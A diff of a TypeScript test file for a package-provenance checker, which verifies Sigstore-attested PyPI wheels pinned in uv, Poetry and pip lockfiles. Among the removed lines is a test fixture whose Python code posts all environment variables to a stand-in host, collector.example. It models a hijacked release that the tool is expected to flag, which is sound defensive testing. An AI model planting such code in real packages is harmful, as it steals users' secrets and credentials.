@@ -1,140 +1,30 @@
 /** Python projects, asked of a package index on this machine whose files are attested by a Sigstore instance of this machine. */
 import assert from "node:assert/strict";
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
-import { dirname, join } from "node:path";
-import { type TestContext, test } from "node:test";
-import { check } from "../src/app/check.ts";
-import { review } from "../src/app/review/review.ts";
-import { type Signing, TEST_IDENTITY, testSigstore } from "../src/attestation/testing.ts";
-import type { Json, Report } from "../src/model/index.ts";
+import { join } from "node:path";
+import { test } from "node:test";
+import { TEST_IDENTITY, testSigstore } from "../src/attestation/testing.ts";
+import { type Json } from "../src/model/index.ts";
+import { type FakeFile, pep740, provenanceObject, sha256Of, startIndex } from "./registry/pypi.ts";
 import {
-  type FakeFile,
-  type FakeIndex,
-  type FakeIndexOptions,
-  type FakeProject,
-  pep740,
-  provenanceObject,
-  sha256Of,
-  startIndex,
-} from "./registry/pypi.ts";
-import { zip } from "./registry/zip.ts";
-
-const PUBLISH = "https://docs.pypi.org/attestations/publish/v1";
-const sigstore = testSigstore();
-const github = { kind: "GitHub", repository: "example/project", workflow: "release.yml", environment: "", claims: null };
-const RUN = "https://github.com/example/project/actions/runs/1/attempts/1";
-/** What Fulcio says of a job of GitHub's: repository, commit, ref, ids, workflow, trigger, run. */
-const claims: Readonly<Record<number, string>> = {
-  9: TEST_IDENTITY,
-  11: "github-hosted",
-  12: "https://github.com/example/project",
-  13: "a".repeat(40),
-  14: "refs/tags/v1.0.0",
-  15: "1001",
-  16: "https://github.com/example",
-  17: "2002",
-  18: TEST_IDENTITY,
-  20: "release",
-  21: RUN,
-};
-
-/** The publish attestation of a file, and whatever is bent about it. */
-function attested(
-  name: string,
-  content: string | Uint8Array,
-  more: {
-    readonly subject?: string;
-    readonly digest?: string;
-    readonly signing?: Signing;
-    readonly publisher?: object | null;
-    readonly type?: string;
-    readonly predicate?: Json;
-  } = {},
-): FakeFile {
-  const bundle = sigstore.signStatement(
-    {
-      _type: "https://in-toto.io/Statement/v1",
-      subject: [{ name: more.subject ?? name, digest: { sha256: more.digest ?? sha256Of(content) } }],
-      predicateType: more.type ?? PUBLISH,
-      predicate: more.predicate ?? null,
-    },
-    { claims, ...more.signing },
-  );
-  return { name, content, provenance: provenanceObject(more.publisher === undefined ? github : more.publisher, pep740(bundle)) };
-}
-
-interface Desk {
-  readonly index: FakeIndex;
-  readonly home: string;
-  readonly write: (files: Readonly<Record<string, string>>) => void;
-  /** The environment and folder of a run. */
-  readonly place: { readonly cwd: string; readonly env: Readonly<Record<string, string>> };
-  readonly check: (more?: { readonly offline?: boolean; readonly env?: Readonly<Record<string, string | undefined>> }) => Promise<Report>;
-}
-
-async function desk(t: TestContext, projects: readonly FakeProject[], options: FakeIndexOptions = {}): Promise<Desk> {
-  const home = mkdtempSync(join(tmpdir(), "tributary pypi "));
-  const project = join(home, "project");
-  const own = join(home, "data", "trust", "own");
-  for (const folder of [project, own]) mkdirSync(folder, { recursive: true });
-  writeFileSync(join(own, "test.json"), JSON.stringify(sigstore.rootDocument));
-  const index = await startIndex(options);
-  index.publish(...projects);
-  t.after(async () => {
-    await index.close();
-    rmSync(home, { recursive: true, force: true });
-  });
-  writeFileSync(join(project, ".npmrc"), `registry=${index.url}\nfetch-retries=0\n`);
-  const base = {
-    HOME: home,
-    PATH: "",
-    PIP_CONFIG_FILE: "/dev/null",
-    PIP_INDEX_URL: index.url,
-    TRIBUTARY_DATA: join(home, "data"),
-    TRIBUTARY_CACHE: join(home, "cache"),
-    TRIBUTARY_OSV_API: `${index.url}osv`,
-  };
-  return {
-    index,
-    home,
-    place: { cwd: project, env: base },
-    write: (files) => {
-      for (const path of ["uv.lock", "poetry.lock", "requirements.txt"]) rmSync(join(project, path), { force: true });
-      for (const [path, text] of Object.entries(files)) {
-        mkdirSync(dirname(join(project, path)), { recursive: true });
-        writeFileSync(join(project, path), text);
-      }
-    },
-    check: async ({ offline = false, env = {} } = {}) => await check({ path: ".", cwd: project, env: { ...base, ...env }, offline }),
-  };
-}
-
-/** What each kind of lockfile holds for the same files. */
-const uvLock = (index: string, name: string, files: readonly { readonly name: string; readonly content: string }[]): string =>
-  `version = 1\nrequires-python = ">=3.8"\n\n[[package]]\nname = "app"\nversion = "0.1.0"\nsource = { virtual = "." }\ndependencies = [{ name = "${name}" }]\n\n[[package]]\nname = "${name}"\nversion = "1.0"\nsource = { registry = "${index}" }\nwheels = [\n${files
-    .map((file) => `    { url = "https://files.example/${file.name}", hash = "sha256:${sha256Of(file.content)}", size = 1 },`)
-    .join("\n")}\n]\n`;
-const poetryLock = (name: string, files: readonly { readonly name: string; readonly content: string }[]): string =>
-  `[[package]]\nname = "${name}"\nversion = "1.0"\noptional = false\npython-versions = ">=3.8"\ngroups = ["main"]\nfiles = [\n${files
-    .map((file) => `    {file = "${file.name}", hash = "sha256:${sha256Of(file.content)}"},`)
-    .join("\n")}\n]\n\n[metadata]\nlock-version = "2.1"\npython-versions = ">=3.8"\ncontent-hash = "0"\n`;
-const requirements = (name: string, files: readonly { readonly content: string }[]): string =>
-  `${name}==1.0${files.map((file) => ` \\\n    --hash=sha256:${sha256Of(file.content)}`).join("")}\n`;
-
-const WHEEL = "good-1.0-py3-none-any.whl";
-const SDIST = "good-1.0.tar.gz";
-const wheel = { name: WHEEL, content: "the wheel" };
-const sdist = { name: SDIST, content: "the source" };
-const good: FakeProject = { name: "good", files: [attested(WHEEL, wheel.content), attested(SDIST, sdist.content)] };
-
-const rules = (report: Report): readonly string[] => report.findings.map(({ rule, subject }) => `${rule} ${subject}`);
-const answer = (report: Report, question: string) => report.answers.find((one) => one.question === question);
-const gaps = (report: Report, question: string): string =>
-  report.verdict.unanswered
-    .filter((gap) => gap.question === question)
-    .map(({ because }) => because)
-    .join();
+  PUBLISH,
+  RUN,
+  WHEEL,
+  answer,
+  attested,
+  claims,
+  desk,
+  gaps,
+  github,
+  good,
+  poetryLock,
+  requirements,
+  rules,
+  sdist,
+  sigstore,
+  uvLock,
+  wheel,
+  wheelWith,
+} from "./registry/pypi-desk.ts";
 
 test("what the lockfile pins is what the index publishes, attested by a workflow: in uv's, Poetry's and pip's files", async (t) => {
   const it = await desk(t, [good]);
@@ -153,11 +43,18 @@ test("what the lockfile pins is what the index publishes, attested by a workflow
       path,
     );
     assert.deepEqual(report.levels, [{ purl: "pkg:pypi/good@1.0", level: 0 }], path);
-    // The bytes were not looked at, and that is said; nothing else of them is open.
-    assert.match(gaps(report, "integrity"), /^the files of PyPI's releases are not fetched[^.]*$/, path);
+    // The file that stands for the release was fetched and hashed: nothing of it is open.
+    assert.equal(gaps(report, "integrity"), "", path);
+    assert.equal(answer(report, "integrity")?.outcome, "pass", path);
   }
   const asked = it.index.requests.filter(({ path }) => path.startsWith("/simple/good") || path.startsWith("/integrity"));
   assert.equal(asked.length, 3, "one page and two provenance objects, once for all runs");
+  const fetched = it.index.requests.filter(({ path }) => path.startsWith("/files"));
+  assert.deepEqual(
+    fetched.map(({ path }) => path),
+    [`/files/${WHEEL}`],
+    "one file, once for all runs",
+  );
   const offline = await it.check({ offline: true });
   assert.deepEqual(rules(offline), []);
   assert.match(answer(offline, "provenance")?.sentence ?? "", /^1 of 1 from a known source/);
@@ -263,8 +160,10 @@ test("what another instance signed, and a publisher of a kind that is newer than
 
 test("a name that is spelled otherwise is the same file's (PEP 740 compares what it means)", async (t) => {
   const name = "Good_Thing-1.0.0-py3.py2-none-any.whl";
-  const it = await desk(t, [{ name: "good.thing", files: [attested(name, "w", { subject: "good_thing-1.0-py2.py3-none-any.whl" })] }]);
-  it.write({ "poetry.lock": poetryLock("Good-Thing", [{ name, content: "w" }]) });
+  const it = await desk(t, [
+    { name: "good.thing", files: [attested(name, wheelWith("w"), { subject: "good_thing-1.0-py2.py3-none-any.whl" })] },
+  ]);
+  it.write({ "poetry.lock": poetryLock("Good-Thing", [{ name, content: wheelWith("w") }]) });
   const report = await it.check();
   assert.deepEqual(rules(report), []);
   assert.match(answer(report, "provenance")?.sentence ?? "", /^1 of 1 from a known source/);
@@ -469,70 +368,14 @@ test("what a requirements file lets come from further indexes is looked for ther
 
 test("two hundred wheels of one release are each verified, on several threads", async (t) => {
   const names = Array.from({ length: 200 }, (_, at) => `good-1.0-cp3${at}-abi3-linux_x86_64.whl`);
-  const it = await desk(t, [{ name: "good", files: names.map((name) => attested(name, name)) }]);
+  const it = await desk(t, [{ name: "good", files: names.map((name) => attested(name, wheelWith(name))) }]);
   it.write({
     "poetry.lock": poetryLock(
       "good",
-      names.map((name) => ({ name, content: name })),
+      names.map((name) => ({ name, content: wheelWith(name) })),
     ),
   });
   const report = await it.check();
   assert.deepEqual(rules(report), []);
   assert.match(answer(report, "provenance")?.sentence ?? "", /^1 of 1 from a known source/);
-});
-
-const wheelOf = (version: string, code: string): Buffer =>
-  zip([
-    { path: "good/__init__.py", content: code },
-    { path: `good-${version}.dist-info/METADATA`, content: `Metadata-Version: 2.1\nName: good\nVersion: ${version}\n` },
-  ]);
-
-test("two releases of an index are reviewed by the wheel that anybody would install, and by where both come from", async (t) => {
-  const theft = 'import os, urllib.request\nurllib.request.urlopen("https://collector.example", data=str(dict(os.environ)).encode())\n';
-  const identity = "https://github.com/other/project/.github/workflows/release.yml@refs/tags/v1.1.0";
-  const elsewhere = {
-    ...claims,
-    9: identity,
-    12: "https://github.com/other/project",
-    15: "9009",
-    16: "https://github.com/other",
-    17: "9010",
-    18: identity,
-  };
-  const it = await desk(t, [
-    {
-      name: "good",
-      files: [
-        attested(WHEEL, wheelOf("1.0", "def add(a, b):\n    return a + b\n")),
-        attested("good-1.1-py3-none-any.whl", wheelOf("1.1", theft), {
-          publisher: { ...github, repository: "other/project" },
-          signing: { identity, claims: elsewhere },
-        }),
-      ],
-    },
-  ]);
-  const compare = async (offline: boolean) =>
-    await review({ kind: "pair", before: "pypi:good@1.0", after: "pkg:pypi/good@1.1" }, { ...it.place, offline });
-  const [first] = await compare(false);
-  assert.equal(first?.package, "good");
-  assert.ok(first.files.some(({ path }) => path === "good/__init__.py"));
-  assert.deepEqual(
-    first.origin.changes.map(({ about }) => about),
-    ["repository", "owner"],
-  );
-  assert.notEqual(first.verdict.verdict, "pass");
-  assert.deepEqual(await compare(true), [first], "offline it says the same");
-  await assert.rejects(review({ kind: "pair", before: "pypi:good@1.0", after: "pypi:good@9.9" }, { ...it.place, offline: false }), {
-    code: "source/not-found",
-  });
-});
-
-test("bytes that are not those of the index's hash are not reviewed", async (t) => {
-  const it = await desk(t, [{ name: "good", files: [{ name: WHEEL, content: wheelOf("1.0", "") }] }]);
-  const swapped = { name: WHEEL, content: wheelOf("1.0", "import os\n"), hash: sha256Of("other") };
-  it.index.publish({ name: "good", files: [swapped] });
-  await assert.rejects(review({ kind: "pair", before: "pypi:good@1.0", after: "pypi:good@1.0" }, { ...it.place, offline: false }), {
-    code: "source/body",
-    message: /have not the SHA-256 that the index gives/,
-  });
 });
